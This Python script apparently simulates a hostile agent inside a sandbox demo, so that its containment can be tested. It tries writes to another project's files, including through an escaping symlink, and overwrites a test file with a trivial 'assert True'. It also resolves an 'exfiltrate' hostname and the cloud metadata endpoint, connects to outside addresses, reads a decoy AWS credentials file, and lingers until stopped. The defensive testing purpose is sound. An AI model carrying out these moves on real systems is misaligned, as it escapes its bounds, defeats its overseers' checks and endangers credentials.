"""An agent that goes out of its bounds on purpose: act 2 of the demo runs it in the coder's jail.

Standard library only, started as a script with the thread's directory as working directory. It prints one JSON line
for each thing that it tried, {"step", "tried", "outcome": "done" | "denied", "detail"}; what it says is never evidence.
"""

import json
import os
import socket
import sys
import time
from collections.abc import Callable, Iterator
from functools import partial

# Addresses reserved for documentation (RFC 5737, RFC 3849): nobody is called, should a packet ever leave.
CALLS = (
    (socket.AF_INET, socket.SOCK_STREAM, ("203.0.113.7", 443)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("198.51.100.7", 53)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::7", 443)),
    (socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80)),  # the cloud's metadata service
)
NAMES = ("exfiltrate.example.com", "metadata.google.internal")
CALL_TIMEOUT_S = 2.0  # an answer that takes longer is no answer
LINGER_S = 20.0  # stays this long, to be stopped rather than to end by itself

WEAKENED = "def test_all_is_well():\n    assert True\n"


def append(path: str, text: str) -> str:
    """Write at the end of a file that must exist."""
    handle = os.open(path, os.O_WRONLY | os.O_APPEND | os.O_CLOEXEC)
    try:
        return f"{os.write(handle, text.encode())} bytes"
    finally:
        os.close(handle)


def replace(path: str, text: str) -> str:
    """Put other content in a file's place by renaming over it."""
    part = path + ".new"
    handle = os.open(part, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_CLOEXEC, 0o644)
    try:
        os.write(handle, text.encode())
    finally:
        os.close(handle)
    os.rename(part, path)
    return "renamed over it"


def link_out(target: str, name: str) -> str:
    """Write through a symbolic link that leads out."""
    os.symlink(target, name)
    try:
        return append(name, "\n")
    finally:
        os.unlink(name)


def read(path: str) -> str:
    """Read the beginning of a file."""
    handle = os.open(path, os.O_RDONLY | os.O_CLOEXEC)
    try:
        return f"{len(os.read(handle, 4096))} bytes"
    finally:
        os.close(handle)


def resolve(name: str) -> str:
    """Ask for a name, which is a message to whoever answers."""
    return str(socket.getaddrinfo(name, 443)[0][4])


def call(family: int, kind: int, address: tuple[str, int]) -> str:
    """Connect and send a byte."""
    with socket.socket(family, kind) as link:
        link.settimeout(CALL_TIMEOUT_S)
        link.connect(address)
        return f"{link.send(b'x')} byte sent"


def attempts(thread: str) -> Iterator[tuple[str, str, Callable[[], str]]]:
    """Give (step, what is tried, how) in order; the decoy is last, because touching it may end everything."""
    root = os.path.dirname(thread)
    other = os.path.join(root, "shipping", "rates.py")
    tests = os.path.join(thread, "tests", "test_invoice.py")
    yield "other-thread", other, partial(append, other, "\nABROAD = None\n")
    yield "other-thread", f"link to {other}", partial(link_out, other, os.path.join(thread, "rates"))
    yield "shared-interface", "shared/money.py", partial(append, os.path.join(root, "shared", "money.py"), "\n")
    yield "weaken-tests", tests, partial(replace, tests, WEAKENED)
    for name in NAMES:
        yield "network-name", name, partial(resolve, name)
    for family, kind, address in CALLS:
        yield "network-address", f"{address[0]}:{address[1]}", partial(call, family, kind, address)
    decoy = os.path.join(os.environ.get("HOME", "/nonexistent"), ".aws", "credentials")
    yield "credentials", decoy, partial(read, decoy)


def main() -> int:
    """`hostile_agent.py [LINGER_S [STEP...]]`: try everything, or these steps; say what happened, and linger."""
    for step, tried, how in attempts(os.getcwd()):
        if sys.argv[2:] and step not in sys.argv[2:]:
            continue
        try:
            outcome, detail = "done", how()
        except OSError as fault:
            outcome, detail = "denied", f"{type(fault).__name__}: {fault}"
        print(json.dumps({"step": step, "tried": tried, "outcome": outcome, "detail": detail}), flush=True)
    # an agent's first argument is its task file: whatever is no number means the usual time
    time.sleep(float(sys.argv[1]) if sys.argv[1:] and sys.argv[1].isdigit() else LINGER_S)
    return 0


if __name__ == "__main__":
    sys.exit(main())
